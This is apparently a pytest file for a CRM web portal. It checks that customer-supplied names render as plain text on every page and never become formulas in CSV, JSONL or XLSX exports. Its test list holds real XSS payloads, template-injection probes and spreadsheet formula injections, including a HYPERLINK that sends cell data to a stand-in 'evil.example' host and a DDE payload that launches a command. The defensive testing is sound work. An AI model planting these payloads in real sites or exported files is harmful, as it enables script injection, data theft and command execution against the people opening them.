"""
Words that would be markup, script or a formula where people of the company read them.

Whoever stands outside chooses what is called so: the object of an interaction, an answer, an
address, and a CRM what a purchase and its company are called. Each comes out as the text it is: on
every page, where the browser runs nothing and breaks no policy, and in every file.
"""

import csv
import io
import json
import zipfile
from xml.etree import ElementTree as ET

import pytest

from regportal.studio.lists import FORMS
from tests.browsing import go
from tests.portal import SITE, served
from tests.studio.customers import SAM, Customers
from tests.studio.looking import Watched, sign_in
from tests.studio.staff import Company, Desk

pytestmark = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
HOSTILE = (
    "<script>window.__x=1</script>",
    '"><img src=x onerror="window.__x=1">',
    "'><svg/onload=window.__x=1>",
    "<iframe srcdoc='<script>parent.__x=1</script>'></iframe>",
    "</title></textarea></script><b>bold</b>",
    "javascript:window.__x=1",
    "{{ 7 * 7 }}${7*7}<%= 7*7 %>%(who)s %s %n",
    '=HYPERLINK("https://evil.example?"&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1",
    "-2+3",
    "\uff1d1+1",
    "\u202egnp.exe\u2066",
    "Ω≈ç√∫µ≤≥÷ 田中さん 👩🏽‍💻 الكل",
    "&lt;script&gt;&#60;b&#62;",
)
STARTS = ("=", "+", "-", "@", "\uff1d")


@pytest.fixture
def hostile(database_url, tmp_path):
    """An installation that is served, where everything is called so."""
    with served(database_url, tmp_path, SITE) as (portal, url):
        company, customers = Company(portal), Customers(portal)
        company.hire(SAM, "marketer", name=HOSTILE[0])
        for number, text in enumerate(HOSTILE):
            customers.did(customers.ann, type="search", category=None, name=text)
            customers.did(None, type="search", category=None, name=text, claim=customers.claim)
            customers.deal(f"x{number}", text, SAM, text, customers.bob)
            customers.scene.answers(customers.ann, f"q{number}", text, now=customers.now)
        customers.scene.weigh()
        yield company, customers, f"{url}/studio"


def every_page(customers, deals):
    return [
        *("/contacts", "/contacts/unconfirmed", "/accounts", "/opportunities", "/"),
        f"/contacts/{customers.ann}",
        f"/contacts/{customers.bob}",
        *(f"/opportunities/{deal}" for deal in deals),
        "/account-of?key=crm:A-006",
    ]


def test_no_word_is_more_than_a_word_on_any_page(hostile, page):
    company, customers, address = hostile
    watched = Watched(page, address)
    page.on("dialog", lambda dialog: watched.broken.append(dialog.message))
    sign_in(page, address, SAM)
    rows = Desk(company.portal)
    rows.sign_in(SAM)
    lines = rows.get("/opportunities.jsonl").text.splitlines()
    deals = [json.loads(line)["key"] for line in lines]
    seen = ""
    for path in every_page(customers, deals):
        go(page, f"{address}{path}")
        seen += page.evaluate("document.querySelector('main').textContent")
        assert page.evaluate("window.__x") is None, path
        assert page.locator("main script, main iframe, main svg, main img, main b").count() == 0

    assert [text for text in HOSTILE if text not in seen] == []
    watched.check()


@pytest.mark.parametrize("form", FORMS)
def test_no_word_is_a_formula_in_any_file(hostile, form):
    company, customers, _ = hostile
    desk = Desk(company.portal)
    desk.sign_in(SAM)
    for path in ("/opportunities", f"/contacts/{customers.ann}/deeds"):
        found = texts(form, desk.take(f"{path}.{form}"))
        kept = [text for text in HOSTILE if text in found or f"'{text}" in found]
        assert kept == [*HOSTILE], path
        if form == "csv":
            assert [one for one in found if one.startswith(STARTS)] == []


def texts(form, file):
    """Every cell of a file, as a program that opens it has it; fails for a formula."""
    if form == "csv":
        return {cell for row in csv.reader(io.StringIO(file.decode())) for cell in row}
    if form == "jsonl":
        return {
            str(one) for line in file.decode().splitlines() for one in json.loads(line).values()
        }
    book = zipfile.ZipFile(io.BytesIO(file))
    cells = ET.fromstring(book.read("xl/worksheets/sheet1.xml"))  # noqa: S314 - our own
    space = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    assert [*cells.iter(f"{space}f")] == []
    return {"".join(one.itertext()) for one in cells.iter(f"{space}is")}
